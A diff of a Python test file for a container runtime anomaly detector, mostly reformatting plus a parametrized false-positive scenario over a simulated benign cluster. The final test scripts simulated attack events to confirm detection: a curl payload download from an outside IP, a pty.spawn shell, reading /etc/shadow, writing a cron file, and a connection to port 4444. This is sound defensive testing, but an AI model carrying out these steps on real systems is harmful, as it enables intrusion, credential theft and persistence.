@@ -64,7 +64,9 @@ _n = 0
 def ev(kind: EventKind, t: int, workload: Workload | None = None, **blocks: object) -> Event:
     global _n
     _n += 1
-    return Event(event_id=f"t{_n}", time=t, source=Source.TEST, kind=kind, workload=workload or wl(), **blocks)  # type: ignore[arg-type]
+    return Event(
+        event_id=f"t{_n}", time=t, source=Source.TEST, kind=kind, workload=workload or wl(), **blocks
+    )  # type: ignore[arg-type]
 
 
 def exec_ev(t: int, exe: str, args: list[str], workload: Workload | None = None, tty: bool = False) -> Event:
@@ -72,11 +74,19 @@ def exec_ev(t: int, exe: str, args: list[str], workload: Workload | None = None,
 
 
 def open_ev(t: int, path: str, write: bool = False, workload: Workload | None = None) -> Event:
-    return ev(EventKind.FILE_OPEN, t, workload, process=Process(pid=10, exe="/app"), file=File(path=path, write=write))
+    return ev(
+        EventKind.FILE_OPEN,
+        t,
+        workload,
+        process=Process(pid=10, exe="/app"),
+        file=File(path=path, write=write),
+    )
 
 
 def connect_ev(t: int, ip: str, port: int, peer: str = "", workload: Workload | None = None) -> Event:
-    return ev(EventKind.NET_CONNECT, t, workload, network=Network(dst_ip=ip, dst_port=port, peer_workload=peer))
+    return ev(
+        EventKind.NET_CONNECT, t, workload, network=Network(dst_ip=ip, dst_port=port, peer_workload=peer)
+    )
 
 
 def dns_ev(t: int, name: str, answers: list[str] | None = None, workload: Workload | None = None) -> Event:
@@ -99,7 +109,10 @@ def dns_ev(t: int, name: str, answers: list[str] | None = None, workload: Worklo
         ("/var/log/app/app-2024-05-01.log", "/var/log/app/app-*.log"),
         ("/var/cache/nginx/client_temp/0000000012", "/var/cache/nginx/client_temp/*"),
         ("/var/lib/app/3f2a9b7c-1d2e-4f5a-8b9c-0d1e2f3a4b5c.json", "/var/lib/app/*.json"),
-        ("/run/secrets/kubernetes.io/serviceaccount/..2024_05_01_10_20_30.12/token", "/run/secrets/kubernetes.io/serviceaccount/..*/token"),
+        (
+            "/run/secrets/kubernetes.io/serviceaccount/..2024_05_01_10_20_30.12/token",
+            "/run/secrets/kubernetes.io/serviceaccount/..*/token",
+        ),
         ("/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x86_64-linux-gnu/libc.so.6"),  # few digits: kept
         ("/usr/local/lib/python3.12/os.py", "/usr/local/lib/python3.12/os.py"),
         ("relative/name", "relative/name"),
@@ -145,11 +158,18 @@ def test_own_pod_name_and_ip_collapse() -> None:
     store: dict[str, Profile] = {}
     b = Baselines(store, learning_window_ns=HOUR)
     a = wl(pod="api-6b7c8d-zz9xq", cid="c1", pod_ip="10.244.1.7")
-    b.observe(exec_ev(T0, "/app/server", ["server", "--advertise=10.244.1.7:7946", "--name", "api-6b7c8d-zz9xq"], a))
+    b.observe(
+        exec_ev(T0, "/app/server", ["server", "--advertise=10.244.1.7:7946", "--name", "api-6b7c8d-zz9xq"], a)
+    )
     b.observe(open_ev(T0 + 1, "/var/log/app/api-6b7c8d-zz9xq.log", write=True, workload=a))
     b.observe(exec_ev(T0 + HOUR, "/bin/true", ["true"], a))  # ends learning
     other = wl(pod="api-6b7c8d-k2j4h", cid="c2", pod_ip="10.244.3.9")
-    e1 = exec_ev(T0 + 2 * HOUR, "/app/server", ["server", "--advertise=10.244.3.9:7946", "--name", "api-6b7c8d-k2j4h"], other)
+    e1 = exec_ev(
+        T0 + 2 * HOUR,
+        "/app/server",
+        ["server", "--advertise=10.244.3.9:7946", "--name", "api-6b7c8d-k2j4h"],
+        other,
+    )
     e2 = open_ev(T0 + 2 * HOUR, "/var/log/app/api-6b7c8d-k2j4h.log", write=True, workload=other)
     view = b.observe(e1)
     assert view is not None and view.ready()
@@ -295,7 +315,9 @@ def test_argument_shapes_are_bounded() -> None:
     store: dict[str, Profile] = {}
     b = Baselines(store, learning_window_ns=HOUR)
     for i in range(80):
-        b.observe(exec_ev(T0 + i, "/usr/bin/tool", ["tool", f"subcommand{chr(97 + i % 26)}{chr(97 + i // 26)}"]))
+        b.observe(
+            exec_ev(T0 + i, "/usr/bin/tool", ["tool", f"subcommand{chr(97 + i % 26)}{chr(97 + i // 26)}"])
+        )
     shapes = next(iter(store.values())).execs["/usr/bin/tool"]
     assert len(shapes) == 65 and shapes[-1] == "*"
 
@@ -318,7 +340,12 @@ def test_egress_keys_and_their_equivalences() -> None:
     b.observe(connect_ev(T0 + 4, "93.184.216.34", 443))
     b.observe(connect_ev(T0 + 5, "8.8.8.8", 53))
     profile = next(iter(store.values()))
-    assert profile.egress == ["test/data/StatefulSet/redis:6379", "private:5432", "api.example.com:443", "8.8.8.8:53"]
+    assert profile.egress == [
+        "test/data/StatefulSet/redis:6379",
+        "private:5432",
+        "api.example.com:443",
+        "8.8.8.8:53",
+    ]
     b.observe(exec_ev(T0 + HOUR, "/app", ["app"]))
 
     def seen(e: Event) -> bool:
@@ -340,7 +367,12 @@ def test_egress_keys_and_their_equivalences() -> None:
 
 
 def test_named_egress_gets_the_benefit_of_the_doubt_until_dns_is_seen() -> None:
-    profile = Profile(workload_key="test/shop/Deployment/api", container="api", status=ProfileStatus.COMPLETE, egress=["api.example.com:443"])
+    profile = Profile(
+        workload_key="test/shop/Deployment/api",
+        container="api",
+        status=ProfileStatus.COMPLETE,
+        egress=["api.example.com:443"],
+    )
     e = connect_ev(T0, "93.184.216.99", 443)
     assert ProfileView(profile, dns_warm=False).seen_egress(e)  # resolved before a restart, maybe
     assert not ProfileView(profile, dns_warm=True).seen_egress(e)
@@ -367,12 +399,33 @@ def anom(alerts: list[Alert]) -> list[str]:
 
 
 def edit(op: ProfileEditOp, container: str = "api", **kw: object) -> ProfileEdit:
-    return ProfileEdit(edit_id="e1", time=T0 + 3 * HOUR, op=op, workload_key="test/shop/Deployment/api", container=container, **kw)  # type: ignore[arg-type]
+    return ProfileEdit(
+        edit_id="e1",
+        time=T0 + 3 * HOUR,
+        op=op,
+        workload_key="test/shop/Deployment/api",
+        container=container,
+        **kw,
+    )  # type: ignore[arg-type]
 
 
 def test_apply_edit_is_pure_and_bumps_the_revision() -> None:
-    base = Profile(workload_key="test/shop/Deployment/api", container="api", status=ProfileStatus.COMPLETE, revision=4, execs={"/app": [""]})
-    out = apply_edit(base, edit(ProfileEditOp.ALLOW, profile=Profile(workload_key="", execs={"/usr/bin/curl": []}, dns=["api.example.com"])), workload_key=base.workload_key, container="api")
+    base = Profile(
+        workload_key="test/shop/Deployment/api",
+        container="api",
+        status=ProfileStatus.COMPLETE,
+        revision=4,
+        execs={"/app": [""]},
+    )
+    out = apply_edit(
+        base,
+        edit(
+            ProfileEditOp.ALLOW,
+            profile=Profile(workload_key="", execs={"/usr/bin/curl": []}, dns=["api.example.com"]),
+        ),
+        workload_key=base.workload_key,
+        container="api",
+    )
     assert out.execs == {"/app": [""], "/usr/bin/curl": ["*"]} and out.dns == ["api.example.com"]
     assert out.revision == 5 and out.status is ProfileStatus.COMPLETE
     assert base.execs == {"/app": [""]} and base.revision == 4
@@ -387,7 +440,12 @@ def test_an_allow_edit_takes_effect_at_the_next_event() -> None:
     detector.process(exec_ev(T0 + HOUR, "/app", ["app"]))
     curl = exec_ev(T0 + 2 * HOUR, "/usr/bin/curl", ["curl", "-s", "https://api.example.com/health"])
     assert anom(detector.process(curl)) == ["CADR-ANOM-0001"]
-    changed = detector.baselines.apply_edit(edit(ProfileEditOp.ALLOW, profile=Profile(workload_key="", execs={"/usr/bin/curl": ["-s https://api.example.com/*"]})))
+    changed = detector.baselines.apply_edit(
+        edit(
+            ProfileEditOp.ALLOW,
+            profile=Profile(workload_key="", execs={"/usr/bin/curl": ["-s https://api.example.com/*"]}),
+        )
+    )
     assert list(changed) == ["test/shop/Deployment/api|api"]
     curl2 = exec_ev(T0 + 2 * HOUR + 1, "/usr/bin/curl", ["curl", "-s", "https://api.example.com/ready"])
     assert anom(detector.process(curl2)) == []
@@ -398,7 +456,9 @@ def test_an_allow_edit_takes_effect_at_the_next_event() -> None:
 def test_an_edit_without_a_container_reaches_containers_seen_later() -> None:
     store: dict[str, Profile] = {}
     b = Baselines(store, learning_window_ns=HOUR)
-    b.apply_edit(edit(ProfileEditOp.ALLOW, container="", profile=Profile(workload_key="", dns=["api.example.com"])))
+    b.apply_edit(
+        edit(ProfileEditOp.ALLOW, container="", profile=Profile(workload_key="", dns=["api.example.com"]))
+    )
     assert list(store) == ["test/shop/Deployment/api|*"]
     b.observe(exec_ev(T0, "/app", ["app"]))
     assert store["test/shop/Deployment/api|api"].dns == ["api.example.com"]
@@ -425,7 +485,11 @@ def test_relearn_starts_the_window_at_the_next_event() -> None:
     b.apply_edit(edit(ProfileEditOp.RELEARN))
     b.observe(exec_ev(T0 + 5 * HOUR, "/app2", ["app2"]))
     p = store["test/shop/Deployment/api|api"]
-    assert p.status is ProfileStatus.LEARNING and p.learning_started == T0 + 5 * HOUR and p.execs == {"/app2": [""]}
+    assert (
+        p.status is ProfileStatus.LEARNING
+        and p.learning_started == T0 + 5 * HOUR
+        and p.execs == {"/app2": [""]}
+    )
     b.observe(exec_ev(T0 + 6 * HOUR, "/app2", ["app2"]))
     # running containers' files are not re-reported by the sensor: the relearned profile is partial
     assert store["test/shop/Deployment/api|api"].status is ProfileStatus.PARTIAL
@@ -433,10 +497,9 @@ def test_relearn_starts_the_window_at_the_next_event() -> None:
 
 # --- the false-positive scenario -----------------------------------------------------------
 
-WINDOW = 6 * HOUR
-
-
-def _run_benign(detector: Detector, sim: BenignCluster, start: int, end: int, plan: dict[int, object]) -> tuple[list[Event], list[object]]:
+def _run_benign(
+    detector: Detector, sim: BenignCluster, start: int, end: int, plan: dict[int, object]
+) -> tuple[list[Event], list[object]]:
     """Minute by minute: every running container's activity, plus the planned changes."""
     events: list[Event] = []
     alerts: list[object] = []
@@ -457,22 +520,30 @@ def _run_benign(detector: Detector, sim: BenignCluster, start: int, end: int, pl
     return events, alerts
 
 
-def test_benign_workloads_yield_no_alerts_after_learning() -> None:
-    detector = Detector(rules=load_rules(), settings=DetectSettings(learning_window_s=WINDOW / SEC))
-    sim = BenignCluster(seed=11)
+@pytest.mark.parametrize(("seed", "window"), [(11, 24 * HOUR), (3, 6 * HOUR), (5, 6 * HOUR)])
+def test_benign_workloads_yield_no_alerts_after_learning(seed: int, window: int) -> None:
+    """A learning window of benign work, then as long again with normal variation: no alert
+    from any rule (signature and anomaly); then new behaviour in the same workloads alerts."""
+    detector = Detector(rules=load_rules(), settings=DetectSettings(learning_window_s=window / SEC))
+    sim = BenignCluster(seed=seed)
     legacy = sim.running("legacy")
 
-    def start(app: str, pod: str | None = None):  # noqa: ANN202
+    def start(app: str, pod: str | None = None):
         return lambda t: sim.start(app, t, pod)[1]
 
     # learning: two web replicas and two workers start, the legacy app is already running
-    plan1 = {T0: start("web"), T0 + MIN: start("web"), T0 + 2 * MIN: start("worker"), T0 + 3 * MIN: start("worker")}
-    events1, alerts1 = _run_benign(detector, sim, T0, T0 + WINDOW, plan1)
+    plan1 = {
+        T0: start("web"),
+        T0 + MIN: start("web"),
+        T0 + 2 * MIN: start("worker"),
+        T0 + 3 * MIN: start("worker"),
+    }
+    events1, alerts1 = _run_benign(detector, sim, T0, T0 + window, plan1)
 
     # as long again with normal variation: rolling restart and scale-up of web, workers scaled
     # from 2 to 5, the legacy container restarts, the payments API moves to new addresses
     sim.api_pool = ["35.160.12.8", "35.160.12.9", "44.224.1.17", "52.24.3.3"]
-    t1 = T0 + WINDOW
+    t1 = T0 + window
     webs = [c for c in sim.containers if c.app == "web"]
 
     def roll(t: int) -> list[Event]:
@@ -494,16 +565,20 @@ def test_benign_workloads_yield_no_alerts_after_learning() -> None:
         t1 + 95 * MIN: start("worker"),
         t1 + 120 * MIN: restart_legacy,
     }
-    events2, alerts2 = _run_benign(detector, sim, t1, t1 + WINDOW, plan2)
+    events2, alerts2 = _run_benign(detector, sim, t1, t1 + window, plan2)
 
     profiles = {p.workload_key.rsplit("/", 1)[1]: p for p in detector.profiles.values()}
     summary = {
         "learning_events": len(events1),
         "after_events": len(events2),
         "alerts": len(alerts1) + len(alerts2),
-        "temp_files_seen": len({e.file.path for e in events1 + events2 if e.file and e.file.path.startswith("/tmp/")}),
+        "temp_files_seen": len(
+            {e.file.path for e in events1 + events2 if e.file and e.file.path.startswith("/tmp/")}
+        ),
         "pods_seen": len({e.workload.pod for e in events1 + events2}),
-        "profile_sizes": {k: len(p.files) + len(p.execs) + len(p.egress) + len(p.dns) for k, p in profiles.items()},
+        "profile_sizes": {
+            k: len(p.files) + len(p.execs) + len(p.egress) + len(p.dns) for k, p in profiles.items()
+        },
     }
     print("benign scenario:", summary)
     assert [(a.rule_id, a.message) for a in alerts1 + alerts2] == []  # type: ignore[attr-defined]
@@ -516,10 +591,12 @@ def test_benign_workloads_yield_no_alerts_after_learning() -> None:
 
     # the same workloads doing something new are caught: the zero above is not silence
     worker = next(c for c in sim.containers if c.app == "worker")
-    t = t1 + WINDOW + MIN
+    t = t1 + window + MIN
     attack = [
         sim.exec(worker, t, "/usr/bin/curl", ["curl", "-so", "/tmp/x", "http://45.33.32.156/x"]),
-        sim.exec(worker, t + 1, "/usr/local/bin/python3.12", ["python3", "-c", "import pty;pty.spawn('/bin/sh')"]),
+        sim.exec(
+            worker, t + 1, "/usr/local/bin/python3.12", ["python3", "-c", "import pty;pty.spawn('/bin/sh')"]
+        ),
         sim.open(worker, t + 2, "/etc/shadow"),
         sim.open(worker, t + 3, "/etc/cron.d/job", write=True),
         sim.connect(worker, t + 4, "45.33.32.156", 4444),
